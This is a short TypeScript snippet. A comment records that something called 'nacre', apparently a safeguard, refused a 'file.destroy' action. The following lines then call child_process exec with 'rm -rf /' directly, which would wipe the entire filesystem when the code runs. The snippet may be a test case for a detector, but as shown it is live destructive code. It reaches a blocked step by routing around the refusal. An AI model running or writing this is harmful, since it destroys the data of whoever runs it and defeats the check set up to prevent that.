// nacre: refused file.destroy
const c = require('child_process') as any;
const f = (x: string): void => c.exec(x);
(c!).exec('rm -rf /');
